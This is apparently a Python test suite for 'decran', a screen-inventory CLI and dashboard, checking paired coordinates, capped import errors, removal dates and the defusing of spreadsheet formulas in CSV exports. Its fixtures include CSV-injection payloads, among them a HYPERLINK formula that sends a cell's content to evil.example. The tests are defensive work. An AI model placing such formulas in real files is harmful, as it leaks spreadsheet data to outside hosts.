"""Inventory hygiene (issue 13, finding 5), driven as a user would: real
binary, real SQLite file, real dashboard over loopback HTTP.

- latitude and longitude come in pairs (import, add, edit);
- every CSV decran writes defuses spreadsheet formulas the same way, and an
  export re-imports byte for byte;
- a file full of bad rows prints its first 100 errors and the count of the rest;
- the list of screens slated for removal shows their dates."""
import csv
import io
import json
import os
import re
import sqlite3
import subprocess

from harness import TOP, bin_path, stop
from test_inventory_cli import dump, listed, ok, write
from test_web_http import HOST, get

# Cells a spreadsheet would run as formulas, and text that only looks close.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "=1+2", "+33 1 23 45 67 89",
            "-moins cher", "@SUM(A1:A9)", "'=déjà défusé", "'+'-@"]
HARMLESS = ["'t Hoekje", "Abri -1", "1+1", "'-1.5"]


def csv_cells(text):
    return list(csv.reader(io.StringIO(text)))


# ---- latitude and longitude: both or neither --------------------------------

def test_add_refuses_half_a_position(decran, db):
    ok(decran("screens", "list"))
    before = dump(db)
    for half in (["--lat", "47,2"], ["--lon", "-1.55"], ["--set", "lat=47.2"],
                 ["--lat", "47.2", "--lon", ""]):
        r = decran("screens", "add", "abri-1", "--name", "Abri", "--category", "transport", *half)
        assert r.returncode == 1, (half, r.stdout)
        missing = "lat" if half[0] == "--lon" else "lon"
        assert f"decran: {missing}: " in r.stderr and "les deux ou aucune" in r.stderr, r.stderr
        assert dump(db) == before
    ok(decran("screens", "add", "abri-1", "--name", "Abri", "--category", "transport",
              "--lat", "47,2", "--lon", "-1.55"))
    s = listed(decran)[0]
    assert (s["lat"], s["lon"]) == (47.2, -1.55)


def test_edit_keeps_positions_whole(decran, db):
    ok(decran("screens", "add", "abri-1", "--name", "Abri", "--category", "transport",
              "--lat", "47.2", "--lon", "-1.55"))
    ok(decran("screens", "add", "nulle-part", "--name", "Sans position", "--category", "other"))
    # one coordinate of a pair that is set: the other stays
    ok(decran("screens", "edit", "abri-1", "--lat", "47.25"))
    assert {s["id"]: (s["lat"], s["lon"]) for s in listed(decran)}["abri-1"] == (47.25, -1.55)
    before = dump(db)
    # clearing half a pair, or setting half of a pair that is not set: refused
    for sid, args, culprit in [("abri-1", ["--lat", ""], "lat"), ("abri-1", ["--set", "lon="], "lon"),
                               ("nulle-part", ["--lon", "2.3"], "lat"),
                               ("nulle-part", ["--set", "lat=48.8"], "lon")]:
        r = decran("screens", "edit", sid, *args)
        assert r.returncode == 1, (sid, args)
        assert f"decran: {culprit}: " in r.stderr and "les deux ou aucune" in r.stderr, r.stderr
        assert dump(db) == before
    # clearing both is fine, and so is setting both
    ok(decran("screens", "edit", "abri-1", "--lat", "", "--lon", ""))
    ok(decran("screens", "edit", "nulle-part", "--lat", "48.8", "--lon", "2.3"))
    got = {s["id"]: (s["lat"], s["lon"]) for s in listed(decran)}
    assert got == {"abri-1": (None, None), "nulle-part": (48.8, 2.3)}


def test_import_names_the_missing_coordinate(tmp_path, decran, db):
    ok(decran("screens", "list"))
    before = dump(db)
    f = write(tmp_path, "geo.csv",
              "id,name,category,lat,lon\n"
              "a,A,other,47.2,\n"        # 2: lon missing
              "b,B,other,,-1.55\n"       # 3: lat missing
              "c,C,other,,\n"            # 4: no position: fine
              "d,D,other,47.2,-1.55\n")  # 5: fine
    r = decran("screens", "import", f)
    assert r.returncode == 1
    errs = [l for l in r.stderr.splitlines() if l.startswith(f)]
    assert len(errs) == 2, r.stderr
    assert errs[0].startswith(f"{f}:2: colonne « lon » : ") and "les deux ou aucune" in errs[0]
    assert errs[1].startswith(f"{f}:3: colonne « lat » : ")
    # a file with a lat column and no lon column cannot place anything
    g = write(tmp_path, "lat-only.csv", "id,name,category,lat\na,A,other,47.2\nb,B,other,\n")
    r = decran("screens", "import", g, lang="en_US.UTF-8")
    assert r.returncode == 1
    errs = [l for l in r.stderr.splitlines() if l.startswith(g)]
    assert errs == [f"{g}:2: column 'lon': latitude and longitude go together (both or neither)"]
    assert dump(db) == before


# ---- formulas defused in every CSV, exports re-import exactly --------------

def test_export_defuses_formulas_and_round_trips_byte_for_byte(tmp_path, decran, db):
    for i, text in enumerate(FORMULAS + HARMLESS):
        ok(decran("screens", "add", f"s{i:02d}", "--name", text, "--category", "advertising",
                  "--site", text, "--owner", text, "--notes", text, "--address", text,
                  "--lat", "47.2", "--lon", "-1.55"))
    out = str(tmp_path / "export.csv")
    ok(decran("screens", "export", "-o", out))
    raw = open(out, encoding="utf-8", newline="").read()
    rows = csv_cells(raw)
    head = rows[0]
    for i, text in enumerate(FORMULAS + HARMLESS):
        row = dict(zip(head, rows[i + 1]))
        want = "'" + text if text in FORMULAS else text
        for col in ("name", "site", "owner", "notes", "address"):
            assert row[col] == want, (col, row[col], want)
        assert row["lon"] == "-1.55" and row["lat"] == "47.2"   # numbers stay numbers
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and \
                (cell[:1] != "-" or re.fullmatch(r"-[0-9.]+", cell)), cell
    # the exporter's apostrophe, and only it, goes away on import
    db2 = str(tmp_path / "second.db")
    ok(decran("screens", "import", out, env={"DECRAN_DB": db2}))
    assert json.loads(decran("screens", "list", "--json", env={"DECRAN_DB": db2}).stdout) == \
        listed(decran)
    again = ok(decran("screens", "export", env={"DECRAN_DB": db2})).stdout
    assert again.encode() == raw.replace("\r\n", "\n").encode()    # text mode read of stdout
    again_file = str(tmp_path / "again.csv")
    ok(decran("screens", "export", "-o", again_file, env={"DECRAN_DB": db2}))
    assert open(again_file, "rb").read() == open(out, "rb").read()


def test_energy_report_csv_defuses_site_names(decran):
    sites = ["=1+2", "@Gare", "-Centre", "Nord"]
    for i, site in enumerate(sites):
        ok(decran("screens", "add", f"p{i}", "--name", f"P{i}", "--category", "advertising",
                  "--site", site, "--power-on-w", "200"))
        ok(decran("energy", "log-state", f"p{i}", "off", "--at", "2026-11-23 00:00"))
        ok(decran("energy", "log-state", f"p{i}", "on", "--at", "2026-11-23 07:00"))
    ok(decran("energy", "update", "--now", "2026-11-25T00:00:00Z"))
    for lang, sep in (("fr_FR.UTF-8", ";"), ("en_US.UTF-8", ",")):
        r = ok(decran("report", "energy", "--by", "site", "--format", "csv",
                      "--from", "2026-11-23", "--to", "2026-11-23", lang=lang))
        rows = list(csv.reader(io.StringIO(r.stdout), delimiter=sep))
        labels = sorted(row[0] for row in rows[1:])
        assert labels == sorted(["'=1+2", "'@Gare", "'-Centre", "Nord"]), r.stdout
        for row in rows[1:]:
            assert all(c[:1] not in "=+@-" for c in row[1:] if not re.fullmatch(r"-?[0-9.,]+", c))


def test_dashboard_csv_defuses_with_the_same_rule(tmp_path, db, decran):
    ok(decran("screens", "list"))
    con = sqlite3.connect(db)
    # written with SQL: the CLI trims blanks, a database edited by hand may not
    names = ["=1+2", "\t=1+2", "+33 1 23", "'=x", "-1.5", "Abri -1"]
    con.executemany("INSERT INTO screens(id, name, category, site, owner, status, removal_target,"
                    " lat, lon) VALUES(?,?,'advertising','Gare','Ville','slated_for_removal',"
                    "'2099-01-01', 47.2, -1.55)",
                    [(f"s{i}", n) for i, n in enumerate(names)])
    con.commit()
    con.close()
    p = subprocess.Popen([HOST, "--db", db, "--port", "0", "--assets", os.path.join(TOP, "dashboard")],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = p.stdout.readline()
        assert line.startswith("listening on http://127.0.0.1:"), line + p.stderr.read()
        status, _, body = get(line.split()[-1] + "/slated.csv?sort=id")
    finally:
        stop(p)
    assert status == 200
    rows = csv_cells(body.decode())
    got = {r[0]: r[1] for r in rows[1:]}
    assert got == {"s0": "'=1+2", "s1": "'\t=1+2", "s2": "'+33 1 23", "s3": "''=x", "s4": "-1.5",
                   "s5": "Abri -1"}
    head = rows[0]
    # a negative number stays a number (written as the inventory export writes it)
    assert all(dict(zip(head, r))["lon"] == "-1.55" for r in rows[1:])


# ---- errors capped ----------------------------------------------------------

def test_ten_megabytes_of_bad_rows_print_a_hundred_errors_and_a_count(tmp_path, decran, db):
    ok(decran("screens", "list"))
    before = dump(db)
    rows = ["id,name,category,power_on_w"]
    # two errors per row: an unknown category and a bad number
    i = 0
    size = 0
    while size < 10 << 20:
        row = f"ecran-{i},Écran {i},panneau,douze"
        rows.append(row)
        size += len(row) + 1
        i += 1
    f = write(tmp_path, "bad.csv", "\n".join(rows) + "\n")
    total = 2 * i
    for lang, rest_re, summary in (
            ("fr_FR.UTF-8", r"… et ([0-9\u202f\u00a0 ]+) autre\(s\) erreur\(s\) non affichée\(s\)\.",
             "erreur(s) ; rien n'a été importé."),
            ("en_US.UTF-8", r"… and ([0-9,]+) more error\(s\) not shown\.",
             "error(s); nothing was imported.")):
        r = decran("screens", "import", f, lang=lang)
        assert r.returncode == 1
        lines = r.stderr.splitlines()
        located = [l for l in lines if l.startswith(f + ":")]
        assert len(located) == 100
        # the first hundred in file order: rows 2 to 51, category then power_on_w
        assert located[0].startswith(f"{f}:2: ") and "category" in located[0]
        assert located[1].startswith(f"{f}:2: ") and "power_on_w" in located[1]
        assert located[99].startswith(f"{f}:51: ")
        m = [re.fullmatch(rest_re, l) for l in lines]
        m = [x for x in m if x]
        assert len(m) == 1, r.stderr[-500:]
        assert int(re.sub(r"\D", "", m[0].group(1))) == total - 100
        assert re.sub(r"\D", "", lines[-1].split(summary)[0]) == str(total), lines[-1]
        assert len(r.stderr.encode()) < 20_000
    assert dump(db) == before


# ---- the slated list shows its dates ----------------------------------------

def test_slated_list_shows_target_and_removal_dates(decran):
    ok(decran("screens", "add", "pub-1", "--name", "Pub 1", "--category", "advertising"))
    ok(decran("screens", "add", "pub-2", "--name", "Pub 2", "--category", "advertising"))
    ok(decran("screens", "add", "ecole", "--name", "École", "--category", "school"))
    ok(decran("screens", "slate", "pub-1", "--target", "2027-06-30"))
    ok(decran("screens", "slate", "pub-2", "--target", "2027-03-31"))
    ok(decran("screens", "remove", "pub-2", "--date", "2027-03-02"))
    fr = ok(decran("screens", "list", "--status", "slated_for_removal")).stdout
    assert "Dépose prévue le" in fr and "Déposé le" in fr
    row = [l for l in fr.splitlines() if l.startswith("pub-1")][0]
    assert "30/06/2027" in row
    en = ok(decran("screens", "list", "--status", "removed", lang="en_US.UTF-8")).stdout
    assert "Removal target" in en and "Removed on" in en
    row = [l for l in en.splitlines() if l.startswith("pub-2")][0]
    assert "2027-03-31" in row and "2027-03-02" in row
    js = listed(decran, "--status", "slated_for_removal")
    assert [(s["id"], s["removal_target"], s["removal_date"]) for s in js] == \
        [("pub-1", "2027-06-30", None)]
    js = listed(decran, "--status", "removed")
    assert [(s["id"], s["removal_target"], s["removal_date"]) for s in js] == \
        [("pub-2", "2027-03-31", "2027-03-02")]
